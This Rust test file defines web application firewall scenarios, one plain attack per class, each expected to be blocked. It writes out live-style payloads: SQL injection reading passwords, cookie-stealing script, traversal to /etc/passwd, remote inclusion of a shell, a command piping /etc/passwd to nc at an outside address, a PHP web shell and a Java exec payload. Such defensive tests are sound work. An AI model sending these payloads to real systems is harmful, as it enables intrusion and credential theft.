//! One plain attack of each class. They are here to be blocked: what is timed is the way through a match, the score
//! and the log line, not how hard the attack is to find.

use super::scenario::{Expected, Scenario, plain_answer, with_body};

pub(super) fn scenarios() -> Vec<Scenario> {
    let scenario = |name, about, request: Vec<u8>, expected| Scenario {
        name,
        about,
        request,
        response: plain_answer(),
        inspects_response: false,
        expected,
    };
    let java = "{\"@type\":\"java.lang.Runtime\",\"command\":\"java.lang.Runtime.getRuntime().exec('id')\"}";
    let php = "name=x&code=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E";
    vec![
        scenario(
            "attack-sqli",
            "SQL injection: the laboratory's attack",
            get("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", BROWSER),
            Expected::BLOCKED,
        ),
        scenario(
            "attack-xss",
            "cross-site scripting in an argument",
            get("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", BROWSER),
            Expected::BLOCKED,
        ),
        scenario(
            "attack-lfi",
            "path traversal to a system file",
            get("/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", BROWSER),
            Expected::BLOCKED,
        ),
        scenario(
            "attack-rfi",
            "inclusion of a file from elsewhere",
            get("/index.php?page=http://203.0.113.9/shell.txt%3F", BROWSER),
            Expected::BLOCKED,
        ),
        scenario(
            "attack-rce",
            "a shell command behind a semicolon",
            get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd%7Cnc%20203.0.113.9%204444", BROWSER),
            Expected::BLOCKED,
        ),
        scenario("attack-php", "PHP code in a form", post("application/x-www-form-urlencoded", php), Expected::BLOCKED),
        scenario("attack-java", "a Java class in JSON", post("application/json", java), Expected::BLOCKED),
        scenario(
            "attack-scanner",
            "a vulnerability scanner by its name",
            get("/admin/", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
            Expected::BLOCKED,
        ),
        scenario(
            "attack-protocol",
            "an answer's header smuggled into an argument",
            get("/login?next=%2Fhome%0d%0aSet-Cookie:%20sid=1%3B%20path=/", BROWSER),
            Expected::BLOCKED,
        ),
    ]
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64)";

fn get(target: &str, agent: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n").into_bytes()
}

fn post(kind: &str, body: &str) -> Vec<u8> {
    let head = format!(
        "POST /api/items HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {BROWSER}\r\nAccept: */*\r\nContent-Type: {kind}\r\n"
    );
    with_body(&head, body.as_bytes())
}
